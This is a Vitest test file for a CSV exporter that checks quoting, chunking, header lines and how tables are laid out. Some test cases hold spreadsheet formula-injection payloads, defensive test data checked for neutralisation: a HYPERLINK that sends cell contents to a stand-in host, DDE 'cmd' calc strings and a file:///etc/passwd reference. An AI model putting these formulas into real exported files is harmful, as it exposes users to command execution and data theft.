import { describe, expect, it } from 'vitest'
import { axis, dataset, withDrawn, type Dataset } from '#common/data/dataset.ts'
import { csvFile, datasetCsv, tablePlan } from '#common/data/dataset-csv.ts'

function variable(axes: string[], ...values: number[]) {
  return { axes, unit: '', about: '', data: Float64Array.from(values) }
}

const csvOf = (given: Dataset) => [...datasetCsv(given, tablePlan(given))]

/** A table as RFC 4180 reads it. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = []
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
  let row: string[] = []
  for (const [, quoted, plain, end] of text.matchAll(pattern)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain!)
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

describe('CSV', () => {
  it('of more than 64 KB comes in pieces and loses nothing between them', () => {
    const count = 20_000
    const values = Array.from({ length: count }, (_, i) => i / 8)
    const given = dataset({ cell: axis(count) }, { value: variable(['cell'], ...values) })
    const pieces = csvOf(given)
    expect(pieces.length).toBeGreaterThan(2)
    for (const piece of pieces) expect(piece.length).toBeLessThan(2 ** 16 + 100)
    const rows = cellsOf(pieces.join(''))
    expect(rows[0]).toEqual(['cell', 'value'])
    expect(rows.slice(1)).toEqual(values.map((value, i) => [String(i), String(value)]))
  })

  it.each([
    ['a', 'a'],
    ['a b', 'a b'],
    ['a\rb', '"a\rb"'],
    ['\n', '"\n"'],
    ['\t', '"\t"'],
    ['a,b', '"a,b"'],
    ['"', '""""'],
    ['a "b"', '"a ""b"""'],
    [' a', '" a"'],
    ['a ', '"a "'],
    ['##ing', '"##ing"'],
    ['', '']
  ])('has the label %j as it is read back', (label, field) => {
    const given = dataset({ token: axis([label]) }, { value: variable(['token'], 1) })
    const text = csvOf(given).join('')
    expect(text).toBe(`token,token_label,value\r\n0,${field},1\r\n`)
    expect(cellsOf(text)[1]).toEqual(['0', label, '1'])
  })

  it.each([
    ['=HYPERLINK("http://a.example/"&A1,"x")', true],
    ["=cmd|'/C calc'!A0", true],
    ["='file:///etc/passwd'#$a.A1", true],
    ['@SUM(A1)', true],
    ['\t=f(1)', true],
    ['-1+f(2)', true],
    ['=', false],
    ['-', false],
    ['+5', false],
    ['=(', false],
    ['@user', false],
    ['f(x)', false]
  ])('keeps spreadsheets from running the label %j as a formula: %j', (label, isFormula) => {
    const given = dataset({ token: axis([label]) }, { value: variable(['token'], 1) })
    expect(cellsOf(csvOf(given).join(''))[1]).toEqual(['0', isFormula ? `'${label}` : label, '1'])
  })

  it.each([
    ["a;=cmd|' /C calc'!A0;", "a;'=cmd|' /C calc'!A0;"],
    ["x\n=cmd|' /C calc'!A0", "x\n'=cmd|' /C calc'!A0"],
    ["\n=cmd|' /C calc'!A0", "\n'=cmd|' /C calc'!A0"],
    ['a\t @f(1)', "a\t '@f(1)"],
    ['a; "=f(1)', 'a; "\'=f(1)'],
    [';=', ';='],
    ['a;b(1)', 'a;b(1)']
  ])('keeps them from it where something else than a comma parts cells: %j', (label, shown) => {
    const given = dataset({ token: axis([label]) }, { value: variable(['token'], 1) })
    expect(cellsOf(csvOf(given).join(''))[1]).toEqual(['0', shown, '1'])
  })

  it('looks at each letter of a label a few times, however many cells it could begin', () => {
    const label = ';='.repeat(100_000) + '\t'.repeat(100_000)
    const given = dataset({ token: axis([label]) }, { value: variable(['token'], 1) })
    const start = process.cpuUsage()
    expect(cellsOf(csvOf(given).join(''))[1]).toEqual(['0', label, '1'])
    // Letter by letter against all that follow it took a minute.
    expect(process.cpuUsage(start).user / 1e6).toBeLessThan(10)
  })

  it('says before the table nothing that is a cell of its own with a formula, or a line', () => {
    const given = dataset(
      { token: axis(1) },
      { value: variable(['token'], 1) },
      {
        'name\n=f(1),=g(1)': 'x',
        from: ['Model: a,=f(1)', 'Model: b; "@g(1)', 'Text: a,-b|c', 'Tokens: [1,-2], -x'],
        params: { ids: [0, -1, -2.5e-7], text: ',+f(1)' }
      }
    )
    const lines = [...csvFile(given, tablePlan(given))].join('').split('\r\n')
    const told = lines.filter(line => line.startsWith('# ')).map(line => line.slice(2))
    expect(told).toHaveLength(lines.length - 3)
    for (const line of told)
      for (const cell of line.split(/[,;]/).slice(1))
        expect(cell).not.toMatch(/^["'\s]*[=+@-](?!\d+(\.\d+)?(e-\d+)?([,\]}]|$))/)
    expect(
      told.slice(1, -1).map(line => JSON.parse(line.slice('from: '.length)) as unknown)
    ).toEqual(given.attributes['from'])
    expect(JSON.parse(told.at(-1)!.slice('params: '.length))).toEqual(given.attributes['params'])
  })

  it('looks a few times for each variable, however many there are', () => {
    const names = Array.from({ length: 300 }, (_, i) => `v${i}`)
    const given = dataset(
      { token: axis(1) },
      Object.fromEntries(names.map((name, i) => [name, variable(['token'], i)]))
    )
    let looked = 0
    const variables = new Proxy(given.variables, {
      get(target, name) {
        looked++
        return Reflect.get(target, name) as unknown
      }
    })
    expect(cellsOf(csvOf({ ...given, variables }).join(''))).toEqual([
      ['token', ...names],
      ['0', ...names.map((_, i) => String(i))]
    ])
    expect(looked).toBeLessThan(20 * names.length)
  })

  it('in a file says before the table what is true of all of it, a line each', () => {
    const given = dataset(
      { token: axis(['# a']) },
      { value: variable(['token'], 1) },
      {
        from: ['Model: m', 'Text: a\nb', 'Text: \u202eab\u2028'],
        params: { seed: 1, texts: ['a\n"b"'] },
        windows: 3,
        none: [],
        layers: [0, 2],
        classes: [{ name: 'x' }, { name: 'y' }]
      }
    )
    expect([...csvFile(given, tablePlan(given))].join('').split('\r\n')).toEqual([
      '# from: Model: m',
      '# from: "Text: a\\nb"',
      '# from: "Text: \\u202eab\\u2028"',
      '# params: {"seed":1,"texts":["a\\n\\"b\\""]}',
      '# windows: 3',
      '# layers: [0,2]',
      '# classes: {"name":"x"}',
      '# classes: {"name":"y"}',
      'token,token_label,value',
      '0,"# a",1',
      ''
    ])
  })

  it('has the table of most variables; of as many that of more numbers, else the one given first', () => {
    const plan = (...names: string[]) => {
      const all: Record<string, ReturnType<typeof variable>> = {
        short: variable(['a'], 1, 2),
        long: variable(['b'], 1, 2, 3),
        other: variable(['c'], 1, 2),
        second: variable(['a'], 3, 4),
        single: variable([], 1)
      }
      const axes = { a: axis(2), b: axis(3), c: axis(2) }
      return tablePlan(dataset(axes, Object.fromEntries(names.map(name => [name, all[name]!]))))
    }
    expect(plan('long', 'short', 'second')).toEqual({
      axes: ['a'],
      variables: ['short', 'second'],
      left: ['long']
    })
    expect(plan('short', 'long').variables).toEqual(['long'])
    expect(plan('short', 'other').variables).toEqual(['short'])
    expect(plan('other', 'short').variables).toEqual(['other'])
    expect(plan('single', 'short').variables).toEqual(['short'])
    expect(plan('single')).toEqual({ axes: [], variables: ['single'], left: [] })
  })

  it('has the table of what is drawn, and beside it what is drawn over some of its axes, at each place', () => {
    const given = withDrawn(
      dataset(
        { layer: axis(2), head: axis(['a', 'b', 'c']), offset: axis(2) },
        {
          other: variable(['layer', 'head'], 1, 2, 3, 4, 5, 6),
          more: variable(['layer', 'head'], 1, 2, 3, 4, 5, 6),
          uniform: variable(['layer', 'offset'], 10, 11, 20, 21),
          offset: { ...variable(['layer', 'head', 'offset'], ...Array.from({ length: 12 }, (_, i) => i)), about: 'how far' }, // prettier-ignore
          total: variable([], 7),
          beside: variable(['layer', 'head', 'offset'], ...Array.from({ length: 12 }, (_, i) => -i)), // prettier-ignore
          byHead: variable(['head'], 0.5, 1.5, 2.5)
        }
      ),
      ['offset', 'uniform', 'total', 'byHead']
    )
    const plan = tablePlan(given)
    expect(plan).toEqual({
      axes: ['layer', 'head', 'offset'],
      variables: ['uniform', 'offset', 'total', 'beside', 'byHead'],
      left: ['other', 'more']
    })
    const lines = [...csvFile(given, plan)].join('').split('\r\n')
    expect(lines.slice(0, 6)).toEqual([
      '# drawn: uniform, offset_value, total, byHead',
      '# left out, for one table does not hold them: other, more',
      '# column uniform: the same along head',
      '# column offset_value: how far',
      '# column total: the same along layer, head, offset',
      '# column byHead: the same along layer, offset'
    ])
    expect(lines.slice(6)).toEqual([
      'layer,head,head_label,offset,uniform,offset_value,total,beside,byHead',
      '0,0,a,0,10,0,7,0,0.5',
      '0,0,a,1,11,1,7,-1,0.5',
      '0,1,b,0,10,2,7,-2,1.5',
      '0,1,b,1,11,3,7,-3,1.5',
      '0,2,c,0,10,4,7,-4,2.5',
      '0,2,c,1,11,5,7,-5,2.5',
      '1,0,a,0,20,6,7,-6,0.5',
      '1,0,a,1,21,7,7,-7,0.5',
      '1,1,b,0,20,8,7,-8,1.5',
      '1,1,b,1,21,9,7,-9,1.5',
      '1,2,c,0,20,10,7,-10,2.5',
      '1,2,c,1,21,11,7,-11,2.5',
      ''
    ])
  })

  it('takes of what is drawn over unlike axes that which stands first, and those of its axes in another order, too', () => {
    const given = withDrawn(
      dataset(
        { a: axis(2), b: axis(3), c: axis(2) },
        {
          single: variable(['a'], 1, 2),
          turned: variable(['b', 'a'], 0, 1, 2, 3, 4, 5),
          own: variable(['a', 'b'], 0, 1, 2, 3, 4, 5),
          wide: variable(['c', 'b', 'a'], ...Array.from({ length: 12 }, (_, i) => i)),
          alone: variable(['c'], 8, 9)
        }
      ),
      ['single', 'turned', 'own', 'alone']
    )
    expect(tablePlan(given)).toMatchObject({ axes: ['b', 'a'], left: ['wide', 'alone'] })
    expect(csvOf(given).join('').split('\r\n').slice(0, 4)).toEqual([
      'b,a,single,turned,own',
      '0,0,1,0,0',
      '0,1,2,1,3',
      '1,0,1,2,1'
    ])
  })

  it('has parts of what is drawn one below the other, each with what is of its side or of both', () => {
    const part = (side: number, name: string, values: number[], of: string[]) => ({
      ...variable(of.map(axis => `${side}.${axis}`), ...values),
      part: { of: name, axes: ['side', ...of], at: side },
      drawn: true as const
    }) // prettier-ignore
    const given = dataset(
      {
        side: axis(['one', 'two']),
        ...{ '0.x': axis(2), '1.x': axis(1), '0.y': axis(1), '1.y': axis(2) }
      },
      {
        'first.mean': part(0, 'mean', [5, 6], ['x']),
        'second.mean': part(1, 'mean', [7], ['x']),
        'first.w': part(0, 'w', [1, 2], ['x', 'y']),
        'second.w': part(1, 'w', [3, 4], ['x', 'y']),
        both: { ...variable(['side'], 0.1, 0.2), drawn: true as const }
      }
    )
    expect(tablePlan(given).left).toEqual([])
    expect(csvOf(given).join('').split('\r\n')).toEqual([
      'side,side_label,x,y,mean,w,both',
      '0,one,0,0,5,1,0.1',
      '0,one,1,0,6,2,0.1',
      '1,two,0,0,7,3,0.2',
      '1,two,0,1,7,4,0.2',
      ''
    ])
  })

  it('leaves what shares some axes alone, and what is of one side beside a table of both', () => {
    const twelve = Array.from({ length: 12 }, (_, i) => i)
    const given = dataset(
      { a: axis(2), b: axis(2), c: axis(3), side: axis(['one', 'two']) },
      {
        own: { ...variable(['side', 'a'], 1, 2, 3, 4), drawn: true as const },
        wide: { ...variable(['a', 'b', 'c'], ...twelve), drawn: true as const },
        'first.s': {
          ...{ ...variable([], 1), drawn: true as const },
          part: { of: 's', axes: ['side'], at: 0 }
        }
      }
    )
    expect(tablePlan(given)).toEqual({
      axes: ['side', 'a'],
      variables: ['own'],
      left: ['wide', 'first.s']
    })
  })

  it('repeats few columns, however many are drawn', () => {
    const names = Array.from({ length: 1000 }, (_, i) => `v${i}`)
    const given = dataset(
      { token: axis(1) },
      {
        own: { ...variable(['token'], 1), drawn: true as const },
        ...Object.fromEntries(
          names.map((name, i) => [name, { ...variable([], i), drawn: true as const }])
        )
      }
    )
    expect(tablePlan(given).variables).toEqual(['own', ...names.slice(0, 20)])
  })

  it('is of numbers along an axis twice as well', () => {
    const given = dataset({ a: axis(2) }, { value: variable(['a', 'a'], 1, 2, 3, 4) })
    expect(csvOf(given).join('').split('\r\n').slice(1, 5)).toEqual(['0,0,1', '0,1,2', '1,0,3', '1,1,4']) // prettier-ignore
  })
})
